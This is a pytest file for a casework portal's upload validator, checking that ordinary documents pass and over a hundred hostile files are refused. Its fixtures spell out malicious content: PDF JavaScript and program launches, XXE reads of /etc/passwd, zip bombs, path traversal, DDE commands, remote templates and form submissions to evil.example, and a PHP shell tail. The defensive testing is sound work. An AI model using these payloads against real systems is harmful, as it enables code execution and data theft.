"""Files that people really send are accepted; hostile ones are refused, with a sentence that helps."""

from __future__ import annotations

import io
import stat
import struct
import tracemalloc
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image

from casework.documents.office import (
    OFFICE,
    RELATION,
    archive,
    calculating,
    calling,
    docx,
    field,
    link,
    odf,
    real_xlsx,
    types,
    unreadable,
    xlsx,
)
from portal.casework.documents import calls, rules
from portal.casework.documents.refusal import DocumentError

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# ---- Files made here --------------------------------------------------------------


def pdf(objects=pikepdf.ObjectStreamMode.generate, change=None, **options) -> bytes:
    """A PDF of one page, by default with compressed object streams."""
    made = pikepdf.new()
    made.add_blank_page()
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, object_stream_mode=objects, **options)
    return out.getvalue()


def plain_pdf(head: bytes = b"", action: bytes = b"") -> bytes:
    """A PDF written by hand, its table of places where it says."""
    body = b"%PDF-1.4\n" + head + b"1 0 obj<</Type/Catalog/Pages 2 0 R" + action + b">>endobj\n"
    body += b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R>>endobj\n"
    return body + b"xref\n0 4\ntrailer<</Root 1 0 R/Size 4>>\nstartxref\n%d\n%%%%EOF\n" % len(body)


def with_script(made) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def with_launch(made) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")


def with_action(where: str, **action):
    """Return a change that adds an action to what opens, or to a place that is pressed, in an object of its own."""

    def change(made) -> None:
        own = made.make_indirect(pikepdf.Dictionary(**action))
        if where == "opening":
            made.Root.OpenAction = own
        else:
            link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=own)
            made.pages[0].Annots = pikepdf.Array([made.make_indirect(link)])

    return change


def with_file(made) -> None:
    made.attachments["calc.exe"] = b"MZ\x90\0"


def with_xfa(made) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"))


def with_page_action(made) -> None:
    made.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://evil.example"))


def picture(kind="PNG", size=(40, 30), **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "#0c5567").save(out, kind, **options)
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_claiming(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def symlink() -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo("word/media/image1.png")
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry


def locked_zip() -> bytes:
    """An archive whose entries say that they are encrypted."""
    made = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        while at >= 0:
            made[at + place] |= 1
            at = made.find(mark, at + 4)
    return bytes(made)


def lying_zip() -> bytes:
    """A part that says it has 10 bytes and has more."""
    made = docx(("word/media/a.xml", b"\0" * 5_000_000))
    return made.replace(struct.pack("<I", 5_000_000), struct.pack("<I", 10))


def doubled() -> bytes:
    with pytest.warns(UserWarning, match="Duplicate"):
        return docx(("word/document.xml", "<w:document>Autre</w:document>"))


def gifar(front: bytes) -> bytes:
    return front + archive([("Evil.class", b"\xca\xfe\xba\xbe")])


def hostile() -> dict[str, tuple[str, bytes]]:
    """Every hostile file: what it tries, its name, its bytes."""
    plain, png, jpg, word = pdf(), picture(), picture("JPEG"), docx()
    bomb = [(f"word/media/{n}.xml", b"\0" * 20_000_000) for n in range(6)]
    laughs = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document>&b;</w:document>'
    xxe = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
    sheet = types(f"{OFFICE}spreadsheetml.sheet.main+xml")
    macro = types("application/vnd.ms-word.document.macroEnabled.main+xml")
    remote, unc = link("attachedTemplate", "https://evil.example/t.dotm"), link("oleObject", r"\\evil.example\x")
    hidden = link("attachedTemplate", "&#104;ttps://evil.example/t")
    name, image = pikepdf.Name, link("image", r"\\evil.example\x.png")
    rels, share = "word/_rels/document.xml.rels", link("externalLinkPath", r"file:///\\evil\x.xlsx")
    event = '<script:event-listener xlink:href="vnd.sun.star.script:a.b.c?language=Basic"/>'
    dde = '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/>'
    simple = {"word/document.xml": '<w:fldSimple w:instr="&#68;DE cmd x"/>'}
    chunk_link = f'<Relationship Type="{RELATION}aFChunk" Target="/word/a.html"/>'
    section = '<text:section-source xlink:href="//evil.example/a.odt"/>'
    unpacked = pdf(pikepdf.ObjectStreamMode.disable, with_script)
    return {
        "empty": ("a.pdf", b""),
        "too large": ("a.pdf", plain + b" " * rules.LARGEST),
        "no name": ("", plain),
        "only an ending": (".pdf", plain),
        "no ending": ("quote", plain),
        "NUL in the name": ("a.exe\0.pdf", plain),
        "program": ("a.exe", b"MZ\x90\0"),
        "two endings": ("invoice.exe.pdf", plain),
        "two endings, spaced": ("invoice.html .pdf", plain),
        "ending turned round": ("annexe\u202efdp.exe", plain),
        "web page": ("a.html", b"<script>alert(1)</script>"),
        "drawing with a script": ("a.svg", b"<svg onload='alert(1)'/>"),
        "macro document": ("a.docm", word),
        "archive": ("a.zip", archive([("a.pdf", plain)])),
        "compressed": ("a.tar.gz", b"\x1f\x8b\x08"),
        "eicar": ("a.pdf", EICAR),
        "eicar in a document": ("a.docx", EICAR),
        "web page called pdf": ("a.pdf", b"<html><script>alert(1)</script></html>"),
        "pdf called png": ("a.png", plain),
        "png called pdf": ("a.pdf", png),
        "png called jpg": ("a.jpg", png),
        "word called pdf": ("a.pdf", word),
        "word called sheet": ("a.xlsx", word),
        "sheet called word": ("a.docx", docx(replace={"[Content_Types].xml": sheet})),
        "pdf cut short": ("a.pdf", plain[: len(plain) // 2]),
        "pdf without a page": ("a.pdf", b"%PDF-1.4\nxref\n0 0\ntrailer<<>>\nstartxref\n9\n%%EOF"),
        "pdf that points nowhere": ("a.pdf", plain[: plain.rfind(b"startxref")] + b"startxref\n99999999\n%%EOF"),
        "pdf with a password": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u"))),
        "pdf with a script": ("a.pdf", unpacked),
        "pdf with a packed script": ("a.pdf", pdf(change=with_script)),
        "pdf with an escaped script": ("a.pdf", plain_pdf(action=b"/OpenAction<</S/J#61vaScript/JS(x)>>")),
        "pdf that starts a program": ("a.pdf", pdf(change=with_launch)),
        "pdf and web page": ("a.pdf", plain_pdf(b"%<script>alert(1)</script>\n")),
        "pdf locked, said otherwise": ("a.pdf", plain_pdf(b"9 0 obj<</#45ncrypt 1 0 R>>endobj\n")),
        "pdf and archive": ("a.pdf", gifar(plain)),
        "pdf after an archive": ("a.pdf", gifar(b"") + plain),
        "pdf with a program attached": ("a.pdf", pdf(change=with_file)),
        "pdf with a form that runs": ("a.pdf", pdf(change=with_xfa)),
        "pdf that opens a site": ("a.pdf", pdf(change=with_action("opening", S=name.URI, URI="https://evil.example"))),
        "pdf that opens a site, in one": ("a.pdf", plain_pdf(action=b"/OpenAction<</S/URI/URI(http://evil.example)>>")),
        "pdf that opens a site, then": ("a.pdf", plain_pdf(action=b"/OpenAction<</S/GoTo/Next<</S/URI>>>>")),
        "pdf whose page opens a site": ("a.pdf", pdf(change=with_page_action)),
        "pdf that sends a form": (
            "a.pdf",
            pdf(change=with_action("link", S=name.SubmitForm, F="https://evil.example")),
        ),
        "pdf that takes data in": ("a.pdf", pdf(change=with_action("link", S=name.ImportData, F="x.fdf"))),
        "pdf that opens one inside": ("a.pdf", pdf(change=with_action("link", S=name.GoToE, F=r"\\evil.example\x"))),
        "pdf that opens a share": ("a.pdf", pdf(change=with_action("link", S=name.GoToR, F=r"\\evil.example\x"))),
        "pdf with a film's script": ("a.pdf", pdf(change=with_action("link", S=name.Rendition, JS="app.alert(1)"))),
        "png and archive": ("a.png", gifar(png)),
        "png with a tail": ("a.png", png + b"<?php system('id');"),
        "png cut short": ("a.png", png[:-10]),
        "png with a wrong sum": ("a.png", png.replace(b"IDAT", b"IDAX")),
        "png of a thousand million points": ("a.png", png_claiming(40_000, 40_000)),
        "png of no point": ("a.png", png_claiming(0, 10)),
        "jpeg and archive": ("a.jpg", gifar(jpg)),
        "jpeg and web page": ("a.jpg", picture("JPEG", comment=b"<html><script>alert(1)</script>")),
        "jpeg cut short": ("a.jpeg", jpg[:60]),
        "jpeg too large": ("a.jpg", picture("JPEG", (6000, 5000), quality=5)),
        "document: bomb": ("a.docx", docx(*bomb)),
        "document: lying sizes": ("a.docx", lying_zip()),
        "document: three thousand parts": ("a.docx", docx(*((f"p/{n}.xml", "") for n in range(3000)))),
        "document: nested archive": ("a.docx", docx(("word/a.bin", gifar(b"")))),
        "document: entities": ("a.docx", docx(replace={"word/document.xml": laughs})),
        "document: outside entity": ("a.docx", docx(replace={"word/document.xml": xxe})),
        "document: entity in utf-16": ("a.docx", docx(replace={"word/document.xml": xxe.encode("utf-16")})),
        "document: climbs out": ("a.docx", docx(("../../etc/cron.d/x.xml", "<x/>"))),
        "document: absolute": ("a.docx", docx(("/etc/passwd", "x"))),
        "document: backslash": ("a.docx", docx((r"word\..\..\x.xml", "<x/>"))),
        "document: drive": ("a.docx", docx(("C:/x.xml", "<x/>"))),
        "document: link": ("a.docx", docx((symlink(), "/etc/passwd"))),
        "document: same part twice": ("a.docx", doubled()),
        "document: macros": ("a.docx", docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))),
        "document: macro type": ("a.docx", docx(("word/x.xml", macro))),
        "document: old container": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "document: program inside": ("a.docx", docx(("word/embeddings/a.bin", b"MZ\x90\0"))),
        "document: object inside": ("a.docx", docx(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"))),
        "document: active control": ("a.docx", docx(("word/activeX/activeX1.xml", "<x/>"))),
        "document: template from elsewhere": ("a.docx", docx(("word/_rels/settings.xml.rels", remote))),
        "document: written otherwise": ("a.docx", docx(("word/_rels/settings.xml.rels", hidden))),
        "document: object from elsewhere": ("a.docx", docx(("word/_rels/document.xml.rels", unc))),
        "document: field that starts a program": ("a.docx", docx(replace=field(" DD", "EAUTO c:/cmd.exe x"))),
        "document: short field of the same": ("a.docx", docx(replace=simple)),
        "document: text from a share": ("a.docx", docx(replace=field(r' INCLUDETEXT "\\\\evil.example\\x"'))),
        "document: drawn from a share": ("a.docx", docx(replace=field(r' INCLUDEPICTURE "\\\\evil.example\\x"'))),
        "document: picture from a share": ("a.docx", docx((rels, image))),
        "document: picture from a host": ("a.docx", docx((rels, link("image", "file://evil/x.png")))),
        "document: web page as text": ("a.docx", docx((rels, chunk_link), ("word/a.html", "<script>1</script>"))),
        "sheet: link that starts one": (
            "a.xlsx",
            xlsx(("xl/externalLinks/x.xml", '<ddeLink ddeService="cmd"/>')),
        ),
        "sheet: numbers from a share": ("a.xlsx", xlsx(("xl/externalLinks/_rels/x.xml.rels", share))),
        "sheet: old macros": ("a.xlsx", xlsx(("xl/macrosheets/sheet1.xml", "<x/>"))),
        "odt: macro behind an event": ("a.odt", odf("text", ("styles.xml", event))),
        "odt: text from a share": ("a.odt", odf("text", ("styles.xml", section))),
        "ods: formula that starts a program": ("a.ods", odf("spreadsheet", ("styles.xml", dde))),
        "document: with a password": ("a.docx", locked_zip()),
        "document: no text": ("a.docx", docx(replace={"word/document.xml": None})),
        "document: something in front": ("a.docx", b"#!/bin/sh\n" + word),
        "document: something behind": ("a.docx", docx(comment=b"<script>")),
        "document: cut short": ("a.docx", word[:-30]),
        "document: unusual packing": ("a.docx", docx(compression=zipfile.ZIP_LZMA)),
        "odt: macros": ("a.odt", odf("text", ("Basic/Standard/Module1.xml", "<x/>"))),
        "odt: scripts": ("a.odt", odf("text", ("Scripts/python/a.py", "import os"))),
        "odt: with a password": ("a.odt", odf("text", ("META-INF/x.xml", "<manifest:encryption-data/>"))),
        "odt: kind not first": ("a.odt", odf("text", first="a.xml")),
        "odt: other kind": ("a.odt", odf("spreadsheet")),
        "ods: other kind": ("a.ods", odf("text")),
        **calling(),
        **unreadable(),
    }


CASES = hostile()


# ---- Accepted ---------------------------------------------------------------------


def accepted(folder) -> list[tuple[str, bytes, str]]:
    image = picture("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0")
    chart = docx(("word/embeddings/Microsoft_Excel_Sheet1.xlsx", real_xlsx(folder)))
    local = docx(("word/_rels/settings.xml.rels", link("attachedTemplate", "file:///C:/Users/a/modele.dotx")))
    web = docx(("word/_rels/document.xml.rels", link("hyperlink", "https://www.ales.cci.fr")))
    name, rels = pikepdf.Name, "word/_rels/document.xml.rels"
    toward = with_action("link", S=name.URI, URI="https://www.ales.cci.fr")
    begin = with_action("opening", S=name.GoTo, D="page1")
    fields = field(' HYPERLINK "https://www.dde.fr" ')
    drive = link("externalLinkPath", "file:///C:\\Comptes\\2025.xlsx")
    return [
        ("Devis.pdf", pdf(), "application/pdf"),
        ("liens.pdf", pdf(change=toward), "application/pdf"),
        ("commence.pdf", pdf(change=begin), "application/pdf"),
        ("commence à la page.pdf", plain_pdf(action=b"/OpenAction[3 0 R/Fit]"), "application/pdf"),
        ("champs.docx", docx(replace=fields), f"{OFFICE}wordprocessingml.document"),
        ("image.docx", docx((rels, link("image", "media/image1.png"))), f"{OFFICE}wordprocessingml.document"),
        ("renvois.xlsx", xlsx(("xl/externalLinks/_rels/x.xml.rels", drive)), f"{OFFICE}spreadsheetml.sheet"),
        ("Kbis.PDF", pdf(pikepdf.ObjectStreamMode.disable), "application/pdf"),
        ("lin.pdf", pdf(linearize=True), "application/pdf"),
        ("main.pdf", plain_pdf(), "application/pdf"),
        ("ancien.pdf", pdf(force_version="1.3"), "application/pdf"),
        ("plan.png", picture(), "image/png"),
        ("transparent.png", picture("PNG", (10, 10), compress_level=9), "image/png"),
        ("photo.jpg", image, "image/jpeg"),
        ("photo.jpeg", picture("JPEG", (3000, 2000), progressive=True), "image/jpeg"),
        ("téléphone.jpg", picture("JPEG") + b"SEFH" + b"\0" * 40 + b"SEFT", "image/jpeg"),
        ("lettre.docx", docx(), f"{OFFICE}wordprocessingml.document"),
        ("graphique.docx", chart, f"{OFFICE}wordprocessingml.document"),
        ("modèle.docx", local, f"{OFFICE}wordprocessingml.document"),
        ("liens.docx", web, f"{OFFICE}wordprocessingml.document"),
        ("comptes.xlsx", real_xlsx(folder), f"{OFFICE}spreadsheetml.sheet"),
        ("note.odt", odf("text"), "application/vnd.oasis.opendocument.text"),
        ("calcul.ods", odf("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
        *calculating(),
    ]


def test_what_people_send_is_accepted_as_it_is(tmp_path):
    for name, content, media_type in accepted(tmp_path):
        ready = rules.check(name, content)
        assert (ready.name, ready.media_type, ready.content) == (name, media_type, content)


@pytest.mark.parametrize("case", CASES)
def test_a_hostile_file_is_refused_with_words_that_help(case):
    name, content = CASES[case]
    with pytest.raises(DocumentError) as refused:
        rules.check(name, content)
    said = refused.value.message.text % refused.value.message.params
    assert "." in said
    assert len(said) > 40


def test_what_calls_on_something_is_told_so_and_not_that_it_is_damaged():
    said = {case: refusal(*sent) for case, sent in calling().items()}
    assert {case for case, words in said.items() if words not in {calls.OUTSIDE, calls.ACTIVE}} == set()
    assert {case for case, words in said.items() if words is calls.ACTIVE} == {
        *("sheet: a program", "sheet: a program, all quoted", "ods: a program"),
    }


def refusal(name, content):
    with pytest.raises(DocumentError) as refused:
        rules.check(name, content)
    return refused.value.message


def test_there_are_enough_hostile_files():
    assert len(CASES) >= 130


def test_a_bomb_takes_little_memory():
    _name, content = CASES["document: bomb"]
    tracemalloc.start()
    with pytest.raises(DocumentError):
        rules.check("a.docx", content)
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 8 * 1024 * 1024


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("Devis.pdf", "Devis.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        (r"C:\Users\a\Devis n°2.pdf", "Devis n°2.pdf"),
        ('a"b\r\nSet-Cookie: x.pdf', "a-b Set-Cookie- x.pdf"),
        ("  e\u0301tat   final .pdf", "état final.pdf"),
        ("sens\u202efdp.pdf", "sensfdp.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
        ("Țintești – oferta.pdf", "Țintești – oferta.pdf"),
    ],
)
def test_the_shown_name_says_what_was_typed_and_no_more(typed, shown):
    assert rules.clean_name(typed) == shown
